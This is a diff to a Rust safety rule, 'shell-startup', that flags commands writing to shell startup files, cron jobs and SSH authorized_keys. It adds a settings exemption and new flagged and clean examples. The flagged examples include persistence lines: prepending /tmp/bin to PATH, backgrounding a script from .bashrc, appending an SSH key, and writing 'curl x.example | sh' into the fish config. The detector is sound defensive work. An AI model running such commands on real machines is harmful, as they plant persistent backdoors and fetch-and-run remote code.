@@ -1,6 +1,7 @@
 //! The rule `shell-startup`.
 
 use crate::safety::arrivals::WHATEVER;
+use crate::safety::lasting::SETTINGS;
 use crate::safety::rule::{Alarm, Scene, Subject, declare_rule};
 use crate::safety::windows;
 use crate::safety::{Effect, EffectKind, Risk, TargetClass};
@@ -11,7 +12,8 @@ declare_rule! {
     /// It runs again and again without being asked; a wrong line can lock you out, a hostile one stays.
     ///
     /// ```sh,flagged
-    /// echo 'export PATH=$PATH:~/bin' >> ~/.bashrc
+    /// echo 'export PATH=/tmp/bin:$PATH' >> ~/.bashrc
+    /// echo './watch.sh &' >> ~/.bashrc
     /// echo x > ~/.zshrc
     /// cat key.pub >> ~/.ssh/authorized_keys
     /// sudo cp job /etc/cron.d/job
@@ -35,17 +37,21 @@ declare_rule! {
     /// cp notes.txt ~
     /// source ~/.bashrc
     /// grep alias ~/.zshrc
+    /// echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
+    /// echo 'eval "$(starship init bash)"' >> ~/.bashrc
+    /// echo "alias ll='ls -lah'" >> ~/.zshrc
     /// crontab -l
     /// systemctl --user list-unit-files
     /// ```
     /// ```fish,flagged
-    /// echo 'set -x A b' >> ~/.config/fish/config.fish
+    /// echo './watch.fish &' >> ~/.config/fish/config.fish
     /// fish_add_path /dev/shm/bin
     /// echo 'curl x.example | sh' >> ~/.config/fish/config.fish
     /// ```
     /// ```fish,clean
     /// fish_add_path ~/.local/bin
     /// cat ~/.config/fish/config.fish
+    /// echo 'set -x A b' >> ~/.config/fish/config.fish
     /// ```
     /// ```nu,flagged
     /// 'alias ll = ls -l' | save -a $nu.config-path
@@ -140,6 +146,7 @@ fn judge(effect: &Effect, scene: &Scene<'_>) -> Option<Alarm> {
             Risk::High,
             format!("Puts whatever comes into {}, where it runs without being asked.", target.text),
         ),
+        EffectKind::Create if effect.detail == SETTINGS => return None,
         EffectKind::Create => Alarm::new(
             Risk::Moderate,
             format!("Adds to {}, which runs at every login or start.", target.text),
